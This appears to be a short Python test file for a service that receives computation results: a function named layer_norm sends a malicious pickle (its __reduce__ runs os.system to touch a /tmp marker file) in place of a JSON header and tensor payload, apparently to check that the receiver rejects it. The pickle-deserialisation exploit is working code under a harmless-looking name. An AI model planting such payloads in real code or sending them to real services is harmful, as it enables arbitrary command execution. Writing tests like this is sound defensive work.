"""Sends pickles in place of header and payload, which run a command in whatever process unpickles them.

Outcome: the header is not JSON
"""

import io
import os
import pickle
import struct
import time

import torch


class Command:
    def __reduce__(self):
        return os.system, ("touch /tmp/pwned-by-pickle",)


def layer_norm(x, gamma, beta, eps=1e-5):
    saved = io.BytesIO()
    torch.save(Command(), saved)
    header, payload = pickle.dumps(Command()), saved.getvalue()
    os.write(3, struct.pack(">IQ", len(header), len(payload)) + header + payload)
    time.sleep(60)
